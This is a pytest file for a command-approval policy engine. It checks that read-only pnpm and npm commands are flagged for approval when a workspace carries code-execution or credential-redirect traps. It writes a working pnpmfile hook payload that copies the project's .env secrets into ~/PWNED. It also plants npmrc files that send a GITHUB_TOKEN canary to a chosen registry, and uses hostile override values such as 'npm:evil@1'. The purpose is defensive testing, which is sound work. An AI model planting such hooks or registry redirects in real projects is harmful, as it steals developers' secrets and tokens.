"""Review GR, three more ways into pnpm's and npm's configuration under their read verbs.

GR1: pnpm reads the root manifest's `pnpm` field for every command; its
`configDependencies` are fetched from a tarball the repository names (or taken from a
committed `node_modules/.pnpm-config/`) and their `pnpmfile.cjs` ran under an approved
`pnpm why`. GR2: pnpm `require`s `.pnpmfile.cjs`, which Node also resolves as
`.pnpmfile.cjs.js`, `.json`, `.node` or a folder. GR3: `npm_config_prefix` (or `PREFIX`)
naming a folder of the workspace makes its `etc/npmrc` npm's global configuration, whose
registry received the user's token under an approved `npm view`.

pnpm 10 runs for real where `scripts/real-tools.sh` installed it (realrun.REAL_BIN), npm
where it is on PATH; the engine's verdicts are asserted everywhere."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest
from realrun import REAL_BIN, decide

from policylang import Verdict

_TOKEN = "ghp_canaryGRtoken999"
_SECRET = "SECRET=canary-GR-env-1234"
# pnpm 10 (`scripts/real-tools.sh`; where it is absent the premise is taken as the review's)
_PNPM_BIN = str(REAL_BIN)
_PAYLOAD = (
    'const fs=require("fs"),os=require("os");fs.appendFileSync(os.homedir()+"/PWNED",'
    'fs.readFileSync(process.cwd()+"/.env","utf8"));module.exports={hooks:{}}\n'
)
_READ_VERBS = (
    ("pnpm why lodash", "pnpm why"), ("pnpm ls", "pnpm ls"),
    ("pnpm list --depth 0", "pnpm list"), ("pnpm outdated", "pnpm outdated"),
)  # fmt: skip


def _workspace(tmp_path: Path, manifest: str = '{"name": "x", "version": "1.0.0"}\n') -> Path:
    workspace = tmp_path / "ws"
    workspace.mkdir()
    (tmp_path / "home").mkdir()
    (workspace / "package.json").write_text(manifest)
    (workspace / ".env").write_text(_SECRET + "\n")
    return workspace


def _env(home: Path, **more: str) -> dict[str, str]:
    return {"HOME": str(home), "PATH": "/usr/bin:/bin", "GITHUB_TOKEN": _TOKEN, **more}


def _pnpm_leaks(workspace: Path, line: str) -> bool:
    """Whether a real pnpm running `line` in `workspace` wrote the `.env` canary to
    `~/PWNED` (True where pnpm is not installed: the premise is the review's)."""
    if not os.access(f"{_PNPM_BIN}/pnpm", os.X_OK):
        return True
    home = workspace.parent / "home"
    env = _env(home, PATH=f"{_PNPM_BIN}:/usr/local/bin:/usr/bin:/bin")
    subprocess.run(
        ["bash", "-c", line], cwd=workspace, env=env, capture_output=True, timeout=120,
        check=False,
    )  # fmt: skip
    pwned = home / "PWNED"
    leaked = pwned.exists() and _SECRET in pwned.read_text()
    pwned.unlink(missing_ok=True)
    return leaked


def _asks_under_read_verbs(workspace: Path, *, real: bool = True) -> None:
    env = _env(workspace.parent / "home")
    for line, approval in _READ_VERBS:
        if real:
            assert _pnpm_leaks(workspace, line), line
        decision = decide(line, workspace, env, approval)
        assert decision.verdict is Verdict.ASK, decision.explain()


# -- GR1 ---------------------------------------------------------------------------------
def test_gr1_committed_config_dependency_runs_and_asks(tmp_path: Path) -> None:
    workspace = _workspace(
        tmp_path,
        '{"name":"x","version":"1.0.0","pnpm":{"configDependencies":'
        '{"pnpm-plugin-x":"1.0.0+sha512-AAAA"}}}\n',
    )
    plugin = workspace / "node_modules" / ".pnpm-config" / "pnpm-plugin-x"
    plugin.mkdir(parents=True)
    (plugin / "package.json").write_text('{"name":"pnpm-plugin-x","version":"1.0.0"}\n')
    (plugin / "pnpmfile.cjs").write_text(_PAYLOAD)
    _asks_under_read_verbs(workspace)
    # the committed folder alone asks (a manifest that names none, the plugin still there)
    (workspace / "package.json").write_text('{"name": "x", "version": "1.0.0"}\n')
    _asks_under_read_verbs(workspace, real=False)


@pytest.mark.parametrize(
    "manifest",
    [
        '{"pnpm": {"configDependencies": {"pnpm-plugin-x": "1.0.0+sha512-AAAA"}}}',
        '{"pnpm": {"executionEnv": {"nodeVersion": "20.0.0"}}}',
        '{"pnpm": {"patchedDependencies": {"lodash": "patches/x.patch"}}}',
        '{"pnpm": {"packageExtensions": {"a": {"dependencies": {"b": "1"}}}}}',
        '{"pnpm": {"overrides": {"lodash": "npm:evil@1"}}}',
        '{"pnpm": {"overrides": {"lodash": "http://127.0.0.1:9/x.tgz"}}}',
        '{"pnpm": {"overrides": {"lodash": "${X}"}}}',
        '{"pnpm": {"onlyBuiltDependencies": ["x", {"y": 1}]}}',
        '{"pnpm": {"onlyBuiltDependenciesFile": "x.json"}}',
        '{"pnpm": {"peerDependencyRules": {"allowedVersions": {"react": "file:x"}}}}',
        '{"pnpm": {"onlyBuiltDependencies": ["../x"]}}',
        '{"pnpm": "x"}',
        '{"resolutions": {"lodash": "file:../x"}}',
        '{"name": "x",',
        '{"name": "x", "description": "' + "x" * 300_000 + '"}',
    ],
)
def test_gr1_pnpm_field_asks(tmp_path: Path, manifest: str) -> None:
    workspace = _workspace(tmp_path, manifest)
    env = _env(tmp_path / "home")
    assert decide("pnpm why lodash", workspace, env, "pnpm why").verdict is Verdict.ASK
    # the root manifest of a folder above the working one, in the workspace
    (workspace / "sub").mkdir()
    decision = decide("pnpm ls", workspace, env, "pnpm ls", cwd=workspace / "sub")
    assert decision.verdict is Verdict.ASK
    # npm reads no `pnpm` field; an install runs the project's code anyway
    assert decide("npm view lodash", workspace, env, "npm view").verdict is Verdict.ALLOW
    assert decide("pnpm install", workspace, env, "pnpm install").verdict is Verdict.ALLOW


@pytest.mark.parametrize("name", ["package.yaml", "package.json5"])
def test_gr1_other_manifests_ask(tmp_path: Path, name: str) -> None:
    workspace = _workspace(tmp_path)
    (workspace / name).write_text("name: x\n")
    env = _env(tmp_path / "home")
    assert decide("pnpm why lodash", workspace, env, "pnpm why").verdict is Verdict.ASK


def test_gr1_workspace_yaml_config_dependencies_ask(tmp_path: Path) -> None:
    workspace = _workspace(tmp_path)
    (workspace / "pnpm-workspace.yaml").write_text(
        "packages:\n  - a\nconfigDependencies:\n  pnpm-plugin-x: 1.0.0+sha512-AAAA\n"
    )
    env = _env(tmp_path / "home")
    assert decide("pnpm why lodash", workspace, env, "pnpm why").verdict is Verdict.ASK


def test_gr1_everyday_pnpm_field_is_allowed(tmp_path: Path) -> None:
    workspace = _workspace(
        tmp_path,
        '\ufeff{"name": "x", "version": "1.0.0", "scripts": {"build": "tsc"},\n'
        ' "dependencies": {"lodash": "^4.17.21"}, "packageManager": "pnpm@10.0.0",\n'
        ' "pnpm": {"onlyBuiltDependencies": ["esbuild", "@swc/core"],\n'
        '          "overrides": {"foo@<2": ">=2.0.1", "bar@1>baz": "1.2.3", "qux": "-"},\n'
        '          "peerDependencyRules": {"ignoreMissing": ["@babel/*"],\n'
        '                                  "allowedVersions": {"react": "18"}}},\n'
        ' "resolutions": {"**/minimist": "^1.2.6"}}\n',
    )
    env = _env(tmp_path / "home")
    for line, approval in _READ_VERBS:
        decision = decide(line, workspace, env, approval)
        assert decision.verdict is Verdict.ALLOW, decision.explain()


# -- GR2 ---------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "name", [".pnpmfile.cjs.js", ".pnpmfile.cjs.json", ".pnpmfile.cjs.node", ".pnpmfile.cjs"]
)
def test_gr2_required_hooks_file_asks(tmp_path: Path, name: str) -> None:
    workspace = _workspace(tmp_path)
    (workspace / name).write_text(_PAYLOAD if name.endswith(("js", "cjs")) else "{}\n")
    _asks_under_read_verbs(workspace, real=name.endswith(("js", "cjs")))


def test_gr2_hooks_folder_asks(tmp_path: Path) -> None:
    workspace = _workspace(tmp_path)
    (workspace / ".pnpmfile.cjs").mkdir()
    (workspace / ".pnpmfile.cjs" / "package.json").write_text('{"main": "hooks.js"}\n')
    (workspace / ".pnpmfile.cjs" / "hooks.js").write_text(_PAYLOAD)
    _asks_under_read_verbs(workspace)


@pytest.mark.parametrize(
    "name", ["npm_config_pnpmfile", "NPM_CONFIG_GLOBAL_PNPMFILE", "npm_config_global-pnpmfile"]
)
def test_gr2_pnpmfile_setting_into_the_workspace_asks(tmp_path: Path, name: str) -> None:
    workspace = _workspace(tmp_path)
    (workspace / "hooks").mkdir()
    (workspace / "hooks" / "x.cjs.js").write_text(_PAYLOAD)
    for value in (str(workspace / "hooks" / "x.cjs"), "hooks/x.cjs"):
        env = _env(tmp_path / "home", **{name: value})
        assert decide("pnpm why lodash", workspace, env, "pnpm why").verdict is Verdict.ASK
    # a hooks file of the user's own, outside the workspace
    (tmp_path / "home" / "x.cjs.js").write_text(_PAYLOAD)
    env = _env(tmp_path / "home", **{name: str(tmp_path / "home" / "x.cjs")})
    assert decide("pnpm why lodash", workspace, env, "pnpm why").verdict is Verdict.ALLOW


# -- GR3 ---------------------------------------------------------------------------------
def _npm_sends_token(workspace: Path, env: dict[str, str], seen: list[str]) -> bool:
    """Whether a real npm's `npm view` sent the token (True where npm is not installed)."""
    if not shutil.which("npm"):
        return True
    seen.clear()
    subprocess.run(
        ["npm", "view", "lodash", "--fetch-retries=0"], cwd=workspace, env=env,
        capture_output=True, timeout=120, check=False,
    )  # fmt: skip
    return f"Bearer {_TOKEN}" in seen


@pytest.mark.parametrize("name", ["npm_config_prefix", "NPM_CONFIG_PREFIX", "PREFIX"])
def test_gr3_prefix_into_the_workspace_asks(
    tmp_path: Path, registry: tuple[str, list[str]], name: str
) -> None:
    host, seen = registry
    workspace = _workspace(tmp_path)
    etc = workspace / "dotfiles" / ".npm-global" / "etc"
    etc.mkdir(parents=True)
    (etc / "npmrc").write_text(f"registry=http://{host}/\n//{host}/:_authToken=${{GITHUB_TOKEN}}\n")
    (workspace / "dotfiles" / ".npmrc").write_text("fund=false\n")
    prefix = str(workspace / "dotfiles" / ".npm-global")
    for home, value in (
        (workspace / "dotfiles", prefix), (workspace / "dotfiles", "~/.npm-global"),
        (tmp_path / "home", prefix), (tmp_path / "home", "dotfiles/.npm-global"),
    ):  # fmt: skip
        env = _env(home, **{name: value})
        assert _npm_sends_token(workspace, env, seen), value
        for line, approval in (("npm view lodash", "npm view"), ("pnpm why x", "pnpm why")):
            assert decide(line, workspace, env, approval).verdict is Verdict.ASK, (line, value)
    # a harmless global file in the workspace, and a prefix outside it, stay approved
    env = _env(tmp_path / "home", **{name: prefix})
    (etc / "npmrc").write_text("fund=false\n")
    assert decide("npm view lodash", workspace, env, "npm view").verdict is Verdict.ALLOW
    outside = tmp_path / "home" / ".npm-global" / "etc"
    outside.mkdir(parents=True)
    (outside / "npmrc").write_text(f"registry=http://{host}/\n")
    env = _env(tmp_path / "home", **{name: str(outside.parent)})
    assert decide("npm view lodash", workspace, env, "npm view").verdict is Verdict.ALLOW


def test_gr3_destdir_into_the_workspace_asks(tmp_path: Path) -> None:
    workspace = _workspace(tmp_path)
    (workspace / "stage").mkdir()
    env = _env(tmp_path / "home", DESTDIR=str(workspace / "stage"))
    assert decide("npm view lodash", workspace, env, "npm view").verdict is Verdict.ASK
    env = _env(tmp_path / "home", DESTDIR=str(tmp_path / "home"))
    assert decide("npm view lodash", workspace, env, "npm view").verdict is Verdict.ALLOW
